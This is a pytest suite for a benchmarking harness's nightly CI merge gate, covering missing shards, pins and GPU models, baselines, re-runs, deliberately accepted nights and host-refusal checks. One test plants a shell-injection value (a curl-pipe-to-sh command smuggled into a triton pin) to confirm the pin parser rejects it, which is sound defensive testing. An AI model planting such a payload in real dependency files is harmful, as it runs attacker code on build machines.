"""The nightly's gate on simulated nights: ``ci/nightly_merge.py`` with the plan's expected runs and the baseline
store, as the merge jobs call it. Every night here is made of real ``harness run --shard`` runs (a one-kernel
matrix, two shards); a night is those run folders arranged as the CI artifacts would be, some left out.

Each case checks the exit code and the line the summary opens with: a missing GPU model, a missing pin, a
missing shard, no baseline, a re-run, a night accepted on purpose.
"""

from __future__ import annotations

import json
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from helpers import REPO, run_cli, write_matrix
from test_workflows import KERNEL, MATRIX

PLAN = {"static": {"pins": ["36"], "shards": 2}, "gpu": {"models": ["h100"], "shards": 2}}


@pytest.fixture(scope="module")
def shards(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Both shards of a good run and of a run whose kernel no longer compiles."""
    root = tmp_path_factory.mktemp("shards")
    env = {"HARNESS_CACHE_DIR": str(root / "cache"), "TRITON_CACHE_DIR": str(root / "triton")}
    out = {}
    for name, body in (("good", "x * 2.0"), ("broken", "x.scale_by(2.0)")):
        src = root / name / "src"
        src.mkdir(parents=True)
        (src / "scale.py").write_text(KERNEL.replace("BODY", body))
        matrix = write_matrix(
            src / "m.yaml", MATRIX.replace("      - {N: 4096}", "      - {N: 4096}\n      - {N: 1000}")
        )
        for shard in (1, 2):
            run = root / name / "runs" / f"shard{shard}"
            proc = run_cli(
                "run", str(matrix), "--static-only", "--out", str(run), "-n", "0", "--shard", f"{shard}/2", env=env
            )
            assert (run / "results.json").is_file(), proc.stdout[-2000:] + proc.stderr[-2000:]
        out[name] = root / name / "runs"
    return out


def _night(tmp: Path, name: str, runs: Path, layout: dict[str, tuple[int, ...]]) -> Path:
    """A night's collected artifacts: for each unit (``static-triton36``), the shards of ``runs`` it brought."""
    night = tmp / name
    for unit, kept in layout.items():
        for shard in kept:
            shutil.copytree(runs / f"shard{shard}", night / unit / f"shard{shard}")
    night.mkdir(parents=True, exist_ok=True)
    return night


def _expected(tmp: Path, scope: str, plan: dict[str, dict[str, object]] = PLAN) -> Path:
    (tmp / "plan.yaml").write_text(yaml.safe_dump(plan))
    out = tmp / f"expected-{scope}.json"
    proc = subprocess.run([sys.executable, str(REPO / "ci" / "nightly_plan.py"), "--plan", str(tmp / "plan.yaml"),
                           "expected", scope, "--out", str(out)], capture_output=True, text=True)  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    return out


def _merge(night: Path, out: Path, *args: str) -> tuple[int, list[str], dict[str, object]]:
    proc = subprocess.run([sys.executable, str(REPO / "ci" / "nightly_merge.py"), str(night), "--out", str(out), *args],
                          capture_output=True, text=True, timeout=900, env={**_env(), "GITHUB_STEP_SUMMARY": ""})  # fmt: skip
    summary = (out / "summary.md").read_text().splitlines() if (out / "summary.md").is_file() else []
    verdict = json.loads((out / "verdict.json").read_text()) if (out / "verdict.json").is_file() else {}
    assert proc.returncode == verdict.get("exit", proc.returncode), proc.stdout + proc.stderr
    return proc.returncode, summary, verdict


def _env() -> dict[str, str]:
    import os

    return {k: v for k, v in os.environ.items() if k != "HARNESS_HISTORY"}


def _pointer(store: Path) -> dict[str, object]:
    path = store / "baseline.json"
    return json.loads(path.read_text()) if path.is_file() else {}


def _started(tmp: Path, shards: dict[str, Path], night: str = "100") -> Path:
    """A store whose baseline is night ``night`` (a whole static night, started on purpose)."""
    store = tmp / "store"
    first = _night(tmp, f"n{night}", shards["good"], {"static-triton36": (1, 2)})
    code, summary, _ = _merge(first, tmp / f"m{night}", "--store", str(store), "--night", night, "--expected",
                              str(_expected(tmp, "static")), "--first-night")  # fmt: skip
    assert code == 0 and "**First night** (started as such): nothing to compare with." in summary, summary
    assert _pointer(store)["night"] == night
    return store


def test_a_missing_gpu_model_fails_the_merge_and_is_never_the_baseline(tmp_path: Path, shards: dict[str, Path]) -> None:
    store = _started(tmp_path, shards)
    night = _night(tmp_path, "n101", shards["good"], {"static-triton36": (1, 2)})  # no gpu-h100 at all
    code, summary, verdict = _merge(night, tmp_path / "m101", "--store", str(store), "--night", "101",
                                    "--expected", str(_expected(tmp_path, "all")))  # fmt: skip
    assert code == 3
    assert summary[0] == "# Nightly 101: the night is incomplete or not comparable (exit 3)"
    assert "**Night incomplete:** missing `gpu-h100` (shards 1/2, 2/2). Not kept as the baseline." in summary
    assert verdict["missing"] == ["`gpu-h100` (shards 1/2, 2/2)"] and not verdict["kept"]
    assert _pointer(store)["night"] == "100"  # the baseline still has what tonight lacked
    # what the static runs did compare is still there, below the verdict
    assert "| `static-triton36` | 0 |" in "\n".join(summary)


def test_a_missing_pin_is_named(tmp_path: Path, shards: dict[str, Path]) -> None:
    store = _started(tmp_path, shards)
    plan = {**PLAN, "static": {"pins": ["34", "36"], "shards": 2}}
    night = _night(tmp_path, "n101", shards["good"], {"static-triton36": (1, 2)})  # triton34's install failed
    code, summary, _ = _merge(night, tmp_path / "m101", "--store", str(store), "--night", "101",
                              "--expected", str(_expected(tmp_path, "static", plan)))  # fmt: skip
    assert code == 3
    assert "**Night incomplete:** missing `static-triton34` (shards 1/2, 2/2). Not kept as the baseline." in summary
    assert _pointer(store)["night"] == "100"


def test_a_missing_shard_is_named(tmp_path: Path, shards: dict[str, Path]) -> None:
    store = _started(tmp_path, shards)
    night = _night(tmp_path, "n101", shards["good"], {"static-triton36": (1,)})
    code, summary, _ = _merge(night, tmp_path / "m101", "--store", str(store), "--night", "101",
                              "--expected", str(_expected(tmp_path, "static")))  # fmt: skip
    assert code == 3
    assert "**Night incomplete:** missing `static-triton36` (shard 2/2). Not kept as the baseline." in summary
    said = [line for line in summary if "2/2" in line]
    assert len(said) == 1, said  # one line per missing shard: the report's own "shard 2/2 missing" is not repeated
    assert _pointer(store)["night"] == "100"


def test_no_baseline_is_its_own_failure_unless_the_night_is_started_as_the_first(
    tmp_path: Path, shards: dict[str, Path]
) -> None:
    night = _night(tmp_path, "unstarted", shards["good"], {"static-triton36": (1, 2)})
    code, summary, verdict = _merge(night, tmp_path / "m", "--store", str(tmp_path / "store"), "--night", "100",
                                    "--expected", str(_expected(tmp_path, "static")))  # fmt: skip
    assert code == 5 and summary[0] == "# Nightly 100: no baseline to judge against (exit 5)"
    assert any(line.startswith("**No baseline:** the store holds no kept night") for line in summary)
    assert not verdict["kept"] and _pointer(tmp_path / "store") == {}
    _started(tmp_path, shards)  # the same night, started on purpose: exit 0 and kept


def test_a_rerun_of_a_kept_night_is_judged_against_the_night_before_and_adds_no_history(
    tmp_path: Path, shards: dict[str, Path]
) -> None:
    store = _started(tmp_path, shards)
    expected = str(_expected(tmp_path, "static"))
    night = _night(tmp_path, "n101", shards["good"], {"static-triton36": (1, 2)})
    code, summary, verdict = _merge(
        night, tmp_path / "m101", "--store", str(store), "--night", "101", "--expected", expected
    )
    assert code == 0 and verdict["kept"] and "Night 101 is the baseline now." in summary
    with sqlite3.connect(store / "history.sqlite") as con:
        before = con.execute("select count(*) from nights").fetchone()[0]
    again, summary, verdict = _merge(
        night, tmp_path / "m101b", "--store", str(store), "--night", "101", "--expected", expected
    )
    assert again == 0
    line = "Judged against night 100 (re-run of night 101, already kept: compared with the baseline before it)."
    assert line in summary and "Night 101 stays the baseline." in summary
    pointer = _pointer(store)
    assert (pointer["night"], pointer["previous"]) == ("101", "100")
    with sqlite3.connect(store / "history.sqlite") as con:
        assert con.execute("select count(*) from nights").fetchone()[0] == before  # the same night, not twice


def test_a_night_accepted_on_purpose_is_the_next_nights_baseline(tmp_path: Path, shards: dict[str, Path]) -> None:
    store = _started(tmp_path, shards)
    expected = str(_expected(tmp_path, "static"))
    worse = _night(tmp_path, "n101", shards["broken"], {"static-triton36": (1, 2)})
    code, summary, _ = _merge(worse, tmp_path / "m101", "--store", str(store), "--night", "101", "--expected", expected)
    assert code == 2 and "Not kept as the baseline: new failures." in summary
    page = (tmp_path / "m101" / "report.html").read_text()  # the page opens with what got worse, run by run
    assert page.index("<h2>Tonight against night 100: worse: ") < page.index("<h2>At a glance</h2>")
    assert "static-triton36 <small>exit 2: " in page and "<b>worse (" in page and "WORSE: status" in page
    # the merge's exit and its table come from that one comparison (harness report --compare-dir), not a second
    verdicts = json.loads((tmp_path / "m101" / "compare" / "verdicts.json").read_text())
    assert [(Path(v["run"]).name, v["exit"]) for v in verdicts] == [("static-triton36", 2)], verdicts
    assert "| `static-triton36` | 2 | worse: new compile, correctness or limit failures" in "\n".join(summary)
    assert "Exit 2: worse" in (tmp_path / "m101" / "compare" / "static-triton36.md").read_text()
    worst = page.split("<h3>Worst findings</h3>", 1)[1].split("</ol>", 1)[0]  # the compile errors, one line
    assert (
        worst.count("<li>") == 1
        and "<b>failed</b>" in worst
        and "4 configs: fp32 · 2 shapes · 2 configs: <b>failed</b>" in worst
    ), worst
    accept = [sys.executable, str(REPO / "ci" / "nightly_merge.py"), "accept", str(worse), "--store", str(store),
              "--night", "101", "--by", "ci-test", "--expected", expected]  # fmt: skip
    refused = subprocess.run([*accept, "--reason", " "], capture_output=True, text=True)
    assert refused.returncode == 2 and "--reason must say why" in refused.stderr
    done = subprocess.run([*accept, "--reason", "scale_by removed on purpose"], capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert "night 101, accepted on purpose by ci-test" in done.stdout
    log = _pointer(store)["log"]
    assert isinstance(log, list) and log[-1]["how"] == "accepted" and log[-1]["reason"] == "scale_by removed on purpose"
    same = _night(tmp_path, "n102", shards["broken"], {"static-triton36": (1, 2)})
    code, summary, verdict = _merge(
        same, tmp_path / "m102", "--store", str(store), "--night", "102", "--expected", expected
    )
    assert code == 0, summary
    assert any(
        line.startswith("Judged against night 101 — night 101, accepted on purpose by ci-test (")
        and line.endswith("): scale_by removed on purpose.")
        for line in summary
    ), summary
    assert verdict["kept"] and _pointer(store)["night"] == "102"


def test_the_gitlab_pipeline_runs_the_plans_jobs() -> None:
    """GitLab's matrix is written out by hand; it must be the plan's (pins, models, shards)."""
    gitlab = yaml.safe_load((REPO / "ci" / "gitlab" / "nightly.gitlab-ci.yml").read_text())
    plan = yaml.safe_load((REPO / "ci" / "nightly-plan.yaml").read_text())
    (static,) = gitlab["static"]["parallel"]["matrix"]
    (gpu,) = gitlab["gpu"]["parallel"]["matrix"]
    n, m = plan["static"]["shards"], plan["gpu"]["shards"]
    assert static["TRITON"] == plan["static"]["pins"]
    assert static["HARNESS_SHARD"] == [f"{i}/{n}" for i in range(1, n + 1)]
    assert gpu["MODEL"] == plan["gpu"]["models"] and gpu["HARNESS_SHARD"] == [f"{i}/{m}" for i in range(1, m + 1)]
    assert gitlab["gpu"]["needs"] == []  # the GPU jobs wait for no static job and download none of its artifacts


def _git(repo: Path, *args: str) -> None:
    subprocess.run(
        ["git", "-c", "user.name=t", "-c", "user.email=t@t", *args], cwd=repo, check=True, capture_output=True
    )


def test_pin_changes_reads_both_files_as_data_and_refuses_what_is_not_a_version(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    (repo / "ci").mkdir(parents=True)
    shutil.copy(REPO / "ci" / "pin_changes.py", repo / "ci")
    shutil.copy(REPO / "ci" / "constraints-cpu.txt", repo / "ci")
    shutil.copy(REPO / "tox.ini", repo / "tox.ini")
    _git(repo, "init", "-q")
    _git(repo, "add", ".")
    _git(repo, "commit", "-qm", "base")
    tox = (repo / "tox.ini").read_text()
    assert "    triton36: triton==3.6.*\n" in tox
    (repo / "tox.ini").write_text(tox.replace("    triton36: triton==3.6.*\n", "    triton36: triton==3.6.1\n"))

    def changes() -> subprocess.CompletedProcess[str]:
        return subprocess.run([sys.executable, str(repo / "ci" / "pin_changes.py"), "HEAD", "--shards", "2"],
                              capture_output=True, text=True)  # fmt: skip

    proc = changes()
    assert proc.returncode == 0, proc.stderr
    include = json.loads(proc.stdout)["include"]
    assert [(b["env"], b["side"], b["pin"], b["shard"]) for b in include] == [
        ("triton36", "base", "3.6.*", 1), ("triton36", "base", "3.6.*", 2),
        ("triton36", "head", "3.6.1", 1), ("triton36", "head", "3.6.1", 2),
    ]  # fmt: skip
    constraints = (repo / "ci" / "constraints-cpu.txt").read_text()
    (repo / "ci" / "constraints-cpu.txt").write_text(
        constraints.replace("triton==3.6.0", 'triton==3.6.0";curl${IFS}x|sh;"')
    )
    proc = changes()
    assert proc.returncode == 2 and "is not a version" in proc.stderr and not proc.stdout


def test_a_multi_gpu_host_without_one_visible_gpu_is_refused(tmp_path: Path) -> None:
    """Two runner services on one host would time on the same GPU: gpu_nightly.sh refuses before running."""
    python = tmp_path / "python-on-a-4-gpu-host"  # answers the device count the script asks the host's torch
    python.write_text('#!/bin/sh\ncase "$2" in *device_count*) echo 4; exit 0;; esac\nexit 9\n')
    python.chmod(0o755)
    env = {k: v for k, v in __import__("os").environ.items() if not k.endswith("VISIBLE_DEVICES")}
    env["HARNESS_PYTHON"] = str(python)
    script = [shutil.which("bash") or "bash", str(REPO / "ci" / "gpu_nightly.sh"), "m.yaml", str(tmp_path / "out")]
    proc = subprocess.run(script, env=env, capture_output=True, text=True, timeout=60)
    assert proc.returncode == 2
    assert "this host has 4 GPUs and the runner sets none of CUDA_VISIBLE_DEVICES" in proc.stderr
    visible = subprocess.run(
        script, env={**env, "CUDA_VISIBLE_DEVICES": "2"}, capture_output=True, text=True, timeout=60
    )
    assert visible.returncode == 9  # past the check: the (fake) harness run itself


def test_a_rocm_host_is_refused_by_what_would_install_over_its_triton(tmp_path: Path) -> None:
    """tox's install command refuses a host with AMD's driver or ROCm; the harness refuses an environment where
    PyPI's triton was installed beside pytorch-triton-rocm (the [cpu] extra on a ROCm host), in one line, exit 2."""
    sys.path.insert(0, str(REPO / "ci"))
    from pip_guard import rocm_reason

    (tmp_path / "kfd").touch()
    reason = rocm_reason((str(tmp_path / "kfd"), str(tmp_path / "no-rocm")))
    assert reason is not None and f"this is a ROCm host ({tmp_path / 'kfd'})" in reason
    assert rocm_reason((str(tmp_path / "no-rocm"),)) is None
    tox = (REPO / "tox.ini").read_text()
    assert "install_command = python {toxinidir}/ci/pip_guard.py {opts} {packages}" in tox
    # the module triton from two distributions: a ROCm wheel's metadata beside this environment's PyPI triton
    site = tmp_path / "site"
    (site / "pytorch_triton_rocm-3.6.0.dist-info").mkdir(parents=True)
    (site / "pytorch_triton_rocm-3.6.0.dist-info" / "METADATA").write_text(
        "Metadata-Version: 2.1\nName: pytorch-triton-rocm\nVersion: 3.6.0\n"
    )
    proc = run_cli("run", str(REPO / "matrices" / "smoke.yaml"), "--static-only", env={"PYTHONPATH": f"{site}:{REPO}"})
    assert proc.returncode == 2, proc.stdout[-1000:] + proc.stderr[-1000:]
    (line,) = proc.stderr.strip().splitlines()
    assert "two distributions provide the module triton here" in line and "pytorch-triton-rocm 3.6.0 (ROCm)" in line


def test_a_night_without_its_expected_runs_file_is_incomplete_in_one_line(tmp_path: Path) -> None:
    proc = subprocess.run([sys.executable, str(REPO / "ci" / "nightly_merge.py"), str(tmp_path), "--out",
                           str(tmp_path / "m"), "--expected", str(tmp_path / "plan" / "expected-all.json")],
                          capture_output=True, text=True)  # fmt: skip
    assert proc.returncode == 3 and len(proc.stderr.strip().splitlines()) == 1, proc.stderr
    assert "the night's expected runs are missing" in proc.stderr
